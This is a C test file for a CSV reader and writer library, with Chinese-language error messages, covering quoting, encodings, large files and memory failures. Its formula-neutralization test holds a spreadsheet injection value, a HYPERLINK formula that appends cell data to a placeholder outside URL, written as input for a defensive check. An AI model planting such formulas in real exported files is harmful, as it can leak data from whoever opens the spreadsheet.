/* CSV reading (table.h over CSV), writing (csv.h) and the progress line. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base/mem.h"
#include "io/cell.h"
#include "io/csv.h"
#include "io/progress.h"
#include "io/table.h"
#include "table_dump.h"

/* ---- helpers --------------------------------------------------------------- */

static const char *dump_mem(const char *data, size_t n)
{
    struct table *t;
    struct mz_err err;
    if (table_open_mem("t.csv", data, n, &t, &err) < 0) {
        snprintf(dumped, sizeof dumped, "!%s %s\n", err.code, err.msg);
        return dumped;
    }
    dump_table(t);
    table_close(t);
    return dumped;
}

#define DUMP(lit) dump_mem(lit, sizeof lit - 1)

/* Writes n bytes to a new temporary file and returns its path (static). */
static const char *temp_file(const void *data, size_t n)
{
    static char path[64];
    strcpy(path, "/tmp/test_csv_XXXXXX");
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, data, n), (ssize_t)n);
    close(fd);
    return path;
}

/* ---- the format -------------------------------------------------------------- */

static void plain_records(void **state)
{
    assert_string_equal(DUMP("a,b,c\n1,2,3\n"), "1:a|b|c\n2:1|2|3\n");
    assert_string_equal(DUMP("a,b\r\nc,d\r\n"), "1:a|b\n2:c|d\n");
    assert_string_equal(DUMP("a,b\nc,d"), "1:a|b\n2:c|d\n");
    assert_string_equal(DUMP("a,b\r\nc,d"), "1:a|b\n2:c|d\n");
    assert_string_equal(DUMP(""), "");
    assert_string_equal(DUMP("\n"), "1:\n");
    assert_string_equal(DUMP("x\n\ny\n"), "1:x\n2:\n3:y\n");
}

static void quoted_fields(void **state)
{
    assert_string_equal(DUMP("\"a,b\",\"say \"\"hi\"\"\",x\n"), "1:a,b|say \"hi\"|x\n");
    assert_string_equal(DUMP("\"\",\"\"\"\"\n"), "1:|\"\n");
    assert_string_equal(DUMP("\"last\""), "1:last\n");
    assert_string_equal(DUMP("\"a\"\r\n\"b\"\r\n"), "1:a\n2:b\n");
    assert_string_equal(DUMP("\"张三\",李四\n"), "1:张三|李四\n");
}

static void embedded_newlines_keep_line_numbers(void **state)
{
    assert_string_equal(DUMP("h1,h2\n\"l1\nl2\nl3\",x\nnext,y\n"),
                        "1:h1|h2\n2:l1\nl2\nl3|x\n5:next|y\n");
    struct table *t;
    struct mz_err err;
    const char data[] = "\"a\r\nb\",c\r\nd\r\n";
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_field(t, 0), "a\r\nb");
    assert_int_equal(table_field_len(t, 0), 4);
    size_t n;
    const char *raw = table_raw(t, &n);
    assert_int_equal(n, 8);
    assert_memory_equal(raw, "\"a\r\nb\",c", 8);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_line(t), 3);
    assert_string_equal(table_field(t, 0), "d");
    raw = table_raw(t, &n);
    assert_int_equal(n, 1);
    assert_int_equal(table_read(t, &err), 0);
    assert_int_equal(table_read(t, &err), 0);
    table_close(t);
}

static void bom_is_skipped(void **state)
{
    struct table *t;
    struct mz_err err;
    const char data[] = "\xEF\xBB\xBFname,age\n张三,5\n";
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    assert_string_equal(table_encoding(t), "UTF-8");
    assert_string_equal(dump_table(t), "1:name|age\n2:张三|5\n");
    assert_int_equal(table_bytes_done(t), sizeof data - 1);
    assert_int_equal(table_bytes_total(t), sizeof data - 1);
    table_close(t);
}

static void empty_and_trailing_fields(void **state)
{
    struct table *t;
    struct mz_err err;
    const char data[] = "a,b,\n,,\n\"\",x\n";
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_nfields(t), 3);
    assert_string_equal(table_field(t, 2), "");
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_nfields(t), 3);
    assert_int_equal(table_field_len(t, 1), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_nfields(t), 2);
    assert_string_equal(table_field(t, 1), "x");
    /* Past the end of a short row: "" rather than a crash. */
    assert_string_equal(table_field(t, 7), "");
    assert_int_equal(table_field_len(t, 7), 0);
    table_close(t);
    assert_string_equal(DUMP("a,b,"), "1:a|b|\n");
}

static void ragged_rows_are_reported_as_counts(void **state)
{
    struct table *t;
    struct mz_err err;
    const char data[] = "a,b,c\n1,2\n3,4,5,6\n";
    size_t want[] = {3, 2, 4};
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    for (size_t i = 0; i < 3; i++) {
        assert_int_equal(table_read(t, &err), 1);
        assert_int_equal(table_nfields(t), want[i]);
    }
    assert_int_equal(table_read(t, &err), 0);
    table_close(t);
}

/* ---- errors -------------------------------------------------------------- */

static void syntax_errors_name_line_and_column(void **state)
{
    const char *d = DUMP("h\nab\"c,d\nok\n");
    assert_non_null(strstr(d, "1:h\n!table_row 2: t.csv:2: A列：未加引号的字段中出现引号"));
    assert_non_null(strstr(d, "\n3:ok\n"));

    d = DUMP("x,\"ab\"c\nok\n");
    assert_non_null(strstr(d, "!table_row 1: t.csv:1: B列：右引号后还有其他字符"));
    assert_non_null(strstr(d, "\n2:ok\n"));

    d = DUMP("a,b\nc\0d,e\nok\n");
    assert_non_null(strstr(d, "!table_row 2: t.csv:2: A列：含有 NUL"));
    assert_non_null(strstr(d, "\n3:ok\n"));

    d = DUMP("a\rb\nok\n");
    assert_non_null(strstr(d, "!table_row 1: t.csv:1: A列：单独的回车符"));
    assert_non_null(strstr(d, "\n2:ok\n"));

    /* An error on the second physical line of a record. */
    d = DUMP("\"x\ny\"z,w\nok\n");
    assert_non_null(strstr(d, "!table_row 1: t.csv:1: A列（第2行）：右引号后"));
    assert_non_null(strstr(d, "\n3:ok\n"));
}

static void unterminated_quote_reports_where_it_opened(void **state)
{
    const char *d = DUMP("a\nb,\"open\nmore\nstill\n");
    assert_string_equal(d, "1:a\n!table_syntax 2: t.csv:2: 引号未闭合：从这一行开始的带引号字段"
                           "直到文件末尾都没有结束\n");
    d = DUMP("\"a\nb\",\"c\nd");
    assert_non_null(strstr(d, "t.csv:2: 引号未闭合"));
}

static void runaway_quote_in_a_big_file_is_refused(void **state)
{
    size_t n = (64u << 20) + 1000;
    char *data = malloc(n);
    memcpy(data, "a,b\nc,\"", 8);
    memset(data + 8, 'x', n - 8);
    const char *path = temp_file(data, n);
    free(data);
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open(path, &t, &err), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_read(t, &err), -1);
    assert_string_equal(err.code, "table_syntax");
    assert_non_null(strstr(err.msg, ":2: 记录超过 64 MiB 仍未结束，多半是这一行起的引号没有闭合"));
    assert_int_equal(table_read(t, &err), 0);
    table_close(t);
    unlink(path);
}

static void bad_row_raw_is_the_bad_line(void **state)
{
    struct table *t;
    struct mz_err err;
    const char data[] = "ok,1\r\nbad\"x,2\r\nok,3\r\n";
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_read(t, &err), -1);
    assert_string_equal(err.code, "table_row");
    size_t n;
    const char *raw = table_raw(t, &n);
    assert_int_equal(n, 7);
    assert_memory_equal(raw, "bad\"x,2", 7);
    assert_int_equal(table_line(t), 2);
    assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_field(t, 1), "3");
    assert_int_equal(table_line(t), 3);
    table_close(t);
}

static void missing_file(void **state)
{
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open("/nonexistent/户籍.csv", &t, &err), -1);
    assert_null(t);
    assert_string_equal(err.code, "table_open");
    assert_non_null(strstr(err.msg, "/nonexistent/户籍.csv: 无法打开文件"));
    assert_int_equal(table_open("/tmp", &t, &err), -1);
    assert_non_null(strstr(err.msg, "目录"));
}

/* ---- encodings ------------------------------------------------------------- */

static void gbk_is_converted(void **state)
{
    /* 姓名,身份证号 / 张三,1 / 李四,"2" in GBK */
    const char data[] = "\xD0\xD5\xC3\xFB,\xC9\xED\xB7\xDD\xD6\xA4\xBA\xC5\n"
                        "\xD5\xC5\xC8\xFD,1\n\xC0\xEE\xCB\xC4,\"2\"\n";
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open_mem("t.csv", data, sizeof data - 1, &t, &err), 0);
    assert_string_equal(table_encoding(t), "GB18030");
    assert_string_equal(dump_table(t), "1:姓名|身份证号\n2:张三|1\n3:李四|2\n");
    assert_int_equal(table_bytes_done(t), sizeof data - 1);
    table_close(t);
}

static void gbk_after_a_long_ascii_start(void **state)
{
    size_t nlines = 8000, n = 0;
    char *data = malloc(nlines * 12 + 64);
    for (size_t i = 0; i < nlines; i++)
        n += (size_t)sprintf(data + n, "%07zu,abc\n", i);
    n += (size_t)sprintf(data + n, "\xD5\xC5\xC8\xFD,x\nlast,y\n");
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open_mem("t.csv", data, n, &t, &err), 0);
    assert_string_equal(table_encoding(t), "UTF-8");
    for (size_t i = 0; i < nlines; i++)
        assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_encoding(t), "GB18030");
    assert_string_equal(table_field(t, 0), "张三");
    assert_int_equal(table_line(t), (long)nlines + 1);
    assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_field(t, 0), "last");
    assert_int_equal(table_line(t), (long)nlines + 2);
    assert_int_equal(table_read(t, &err), 0);
    table_close(t);

    /* The same from a file, with non-GBK bytes further on. */
    n -= strlen("last,y\n");
    n += (size_t)sprintf(data + n, "\xFF\xFF,z\n");
    const char *path = temp_file(data, n);
    assert_int_equal(table_open(path, &t, &err), 0);
    for (size_t i = 0; i <= nlines; i++)
        assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_field(t, 0), "张三");
    assert_int_equal(table_read(t, &err), -1);
    assert_string_equal(err.code, "table_encoding");
    assert_non_null(strstr(err.msg, ":8002: 按 GBK/GB18030 读取时遇到无法识别的字节 0xFF"));
    assert_int_equal(table_read(t, &err), 0);
    table_close(t);
    unlink(path);
    free(data);
}

static void neither_utf8_nor_gbk_is_refused(void **state)
{
    const char *d = DUMP("a,b\n\xFF\xFF\xFF,c\n");
    assert_string_equal(d, "!table_encoding t.csv: 既不是 UTF-8 也不是 GBK/GB18030 编码"
                           "（第2行有无法识别的字节 0xFF）；请另存为 UTF-8 编码的 CSV\n");
    d = DUMP("\xFF\xFE"
             "a\0,\0b\0");
    assert_non_null(strstr(d, "!table_encoding t.csv: 文件是 UTF-16 编码"));
}

static void invalid_utf8_later_is_a_row_error(void **state)
{
    size_t nlines = 10000, n = 0;
    char *data = malloc(nlines * 10 + 64);
    for (size_t i = 0; i < nlines; i++)
        n += (size_t)sprintf(data + n, "张三,1\n");
    n += (size_t)sprintf(data + n, "x\xC3(,2\nok,3\n");
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open_mem("t.csv", data, n, &t, &err), 0);
    for (size_t i = 0; i < nlines; i++)
        assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_read(t, &err), -1);
    assert_string_equal(err.code, "table_row");
    assert_string_equal(err.msg, "t.csv:10001: A列：不是有效的 UTF-8 编码（字节 0xC3）");
    assert_int_equal(table_read(t, &err), 1);
    assert_string_equal(table_field(t, 0), "ok");
    assert_string_equal(table_encoding(t), "UTF-8");
    table_close(t);
    free(data);
}

/* ---- streaming --------------------------------------------------------------- */

/* Field j of generated record i: mixes plain, quoted, multi-line, Chinese
 * and long values so that records straddle every window boundary. */
static void gen_field(size_t i, size_t j, char *out)
{
    static const char *const parts[] = {"张三", "a,b", "say \"x\"", "l1\nl2", " pad ", "123456"};
    size_t len = (i * 7 + j * 13) % 23;
    size_t n = (size_t)sprintf(out, "%zu-%zu", i, j);
    for (size_t k = 0; k < len; k++)
        n += (size_t)sprintf(out + n, "%s", parts[(i + j + k) % 6]);
    if (i % 5000 == 4999 && j == 1) /* now and then a field larger than a window */
        for (size_t k = 0; k < 40000; k++)
            n += (size_t)sprintf(out + n, "%s", parts[k % 6]);
}

static void large_file_spanning_buffers(void **state)
{
    char path[] = "/tmp/test_csv_big_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    FILE *f = fdopen(fd, "w");
    static char fields[4][400000];
    const char *ptrs[4] = {fields[0], fields[1], fields[2], fields[3]};
    size_t nrec = 20000;
    long lines = 1;
    assert_int_equal(csv_write_bom(f), 0);
    for (size_t i = 0; i < nrec; i++) {
        for (size_t j = 0; j < 4; j++)
            gen_field(i, j, fields[j]);
        assert_int_equal(csv_write_row(f, ptrs, 4), 0);
    }
    fclose(f);

    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open(path, &t, &err), 0);
    char want[400000];
    for (size_t i = 0; i < nrec; i++) {
        assert_int_equal(table_read(t, &err), 1);
        assert_int_equal(table_nfields(t), 4);
        assert_int_equal(table_line(t), lines);
        for (size_t j = 0; j < 4; j++) {
            gen_field(i, j, want);
            assert_string_equal(table_field(t, j), want);
            assert_int_equal(table_field_len(t, j), strlen(want));
            for (const char *p = want; (p = strchr(p, '\n')) != NULL; p++)
                lines++;
        }
        lines++;
    }
    assert_int_equal(table_read(t, &err), 0);
    assert_int_equal(table_bytes_done(t), table_bytes_total(t));
    assert_true(table_bytes_total(t) > 2 * 1024 * 1024);
    table_close(t);
    unlink(path);
}

static void large_gbk_file(void **state)
{
    size_t nrec = 100000, n = 0;
    char *data = malloc(nrec * 24);
    for (size_t i = 0; i < nrec; i++)
        n += (size_t)sprintf(data + n, "\xD5\xC5\xC8\xFD%zu,\"\xC0\xEE\n\xCB\xC4\"\r\n", i);
    const char *path = temp_file(data, n);
    free(data);
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open(path, &t, &err), 0);
    assert_string_equal(table_encoding(t), "GB18030");
    char want[32];
    for (size_t i = 0; i < nrec; i++) {
        assert_int_equal(table_read(t, &err), 1);
        sprintf(want, "张三%zu", i);
        assert_string_equal(table_field(t, 0), want);
        assert_string_equal(table_field(t, 1), "李\n四");
        assert_int_equal(table_line(t), (long)(2 * i + 1));
    }
    assert_int_equal(table_read(t, &err), 0);
    assert_int_equal(table_bytes_done(t), n);
    table_close(t);
    unlink(path);
}

/* ---- out of memory ------------------------------------------------------- */

/* Every allocation failure either leaves the result intact or ends in an
 * "out_of_memory" error, without leaks (LeakSanitizer checks at exit). */
static void check_oom(const char *path, const char *data, size_t n, const char *want)
{
    int ok = 0;
    for (long k = 0; k < 200 && !ok; k++) {
        struct table *t;
        struct mz_err err;
        mem_fail_after(k);
        int rc = path ? table_open(path, &t, &err) : table_open_mem("t.csv", data, n, &t, &err);
        if (rc < 0) {
            mem_fail_reset();
            assert_string_equal(err.code, "out_of_memory");
            continue;
        }
        dump_table(t);
        mem_fail_reset();
        table_close(t);
        if (strcmp(dumped, want) == 0)
            ok = 1;
        else
            assert_non_null(strstr(dumped, "!out_of_memory"));
    }
    assert_true(ok);
}

static void out_of_memory(void **state)
{
    const char utf8[] = "a,\"b\"\"c\",张三\nd,e,f\n";
    check_oom(NULL, utf8, sizeof utf8 - 1, "1:a|b\"c|张三\n2:d|e|f\n");
    const char gbk[] = "\xD5\xC5\xC8\xFD,1\n";
    check_oom(NULL, gbk, sizeof gbk - 1, "1:张三|1\n");
    const char *path = temp_file(gbk, sizeof gbk - 1);
    check_oom(path, NULL, 0, "1:张三|1\n");
    unlink(path);
}

/* ---- writing ------------------------------------------------------------- */

static void writer_quotes_only_when_needed(void **state)
{
    char *buf;
    size_t n;
    FILE *f = open_memstream(&buf, &n);
    const char *row[] = {"a", "b,c", "say \"hi\"", " lead", "trail\t", "l1\nl2", "", "张三", "a\r"};
    assert_int_equal(csv_write_bom(f), 0);
    assert_int_equal(csv_write_row(f, row, 9), 0);
    fclose(f);
    assert_string_equal(buf, "\xEF\xBB\xBF"
                             "a,\"b,c\",\"say \"\"hi\"\"\",\" lead\",\"trail\t\",\"l1\nl2\",,张三,\"a\r\"\n");
    /* And it reads back as written. */
    struct table *t;
    struct mz_err err;
    assert_int_equal(table_open_mem("w.csv", buf, n, &t, &err), 0);
    assert_int_equal(table_read(t, &err), 1);
    assert_int_equal(table_nfields(t), 9);
    for (size_t i = 0; i < 9; i++)
        assert_string_equal(table_field(t, i), row[i]);
    table_close(t);
    free(buf);
    assert_false(csv_needs_quotes("plain 文本", strlen("plain 文本")));
}

/* Cells a spreadsheet would run as formulas are written as text; numbers,
 * negative ones included, are left alone. */
static void writer_neutralizes_formulas(void **state)
{
    char *buf;
    size_t n;
    FILE *f = open_memstream(&buf, &n);
    const char *row[] = {"=HYPERLINK(\"http://x.example/\"&A1,\"点击\")", "+1", "-2+3", "@SUM(A1)",
                         "\tx", "\r=1", "-12.50", "+7", "a=b", "500103-0001"};
    assert_int_equal(csv_write_row(f, row, 10), 0);
    fclose(f);
    assert_string_equal(buf, "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"点击\"\")\",+1,'-2+3,"
                             "'@SUM(A1),\"'\tx\",\"'\r=1\",-12.50,+7,a=b,500103-0001\n");
    free(buf);
    assert_false(cell_is_formula(""));
    assert_false(cell_is_formula("-"  "3"));
    assert_true(cell_is_formula("-"));
    assert_true(cell_is_formula("=1"));
}

static void column_names(void **state)
{
    char out[8];
    size_t cols[] = {0, 2, 25, 26, 27, 51, 52, 701, 702, 16383};
    const char *want[] = {"A", "C", "Z", "AA", "AB", "AZ", "BA", "ZZ", "AAA", "XFD"};
    for (size_t i = 0; i < sizeof cols / sizeof *cols; i++) {
        table_column_name(cols[i], out);
        assert_string_equal(out, want[i]);
    }
}

static void progress_line(void **state)
{
    struct progress p;
    progress_start(&p, "导入人员", 1000);
    p.start = 100.0;
    p.done = 250;
    p.rows = 5000;
    char line[256];
    progress_format(&p, 110.0, line, sizeof line);
    assert_string_equal(line, "导入人员  25% [#######.......................] 500 行/秒  剩余 0:30");
    p.total = 0;
    progress_format(&p, 110.0, line, sizeof line);
    assert_string_equal(line, "导入人员  5000 行  500 行/秒");
    progress_update(&p, 300, 6000);
    assert_int_equal(p.rows, 6000);
    progress_finish(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_records),
        cmocka_unit_test(writer_neutralizes_formulas),
        cmocka_unit_test(quoted_fields),
        cmocka_unit_test(embedded_newlines_keep_line_numbers),
        cmocka_unit_test(bom_is_skipped),
        cmocka_unit_test(empty_and_trailing_fields),
        cmocka_unit_test(ragged_rows_are_reported_as_counts),
        cmocka_unit_test(syntax_errors_name_line_and_column),
        cmocka_unit_test(unterminated_quote_reports_where_it_opened),
        cmocka_unit_test(runaway_quote_in_a_big_file_is_refused),
        cmocka_unit_test(bad_row_raw_is_the_bad_line),
        cmocka_unit_test(missing_file),
        cmocka_unit_test(gbk_is_converted),
        cmocka_unit_test(gbk_after_a_long_ascii_start),
        cmocka_unit_test(neither_utf8_nor_gbk_is_refused),
        cmocka_unit_test(invalid_utf8_later_is_a_row_error),
        cmocka_unit_test(large_file_spanning_buffers),
        cmocka_unit_test(large_gbk_file),
        cmocka_unit_test(out_of_memory),
        cmocka_unit_test(writer_quotes_only_when_needed),
        cmocka_unit_test(column_names),
        cmocka_unit_test(progress_line),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
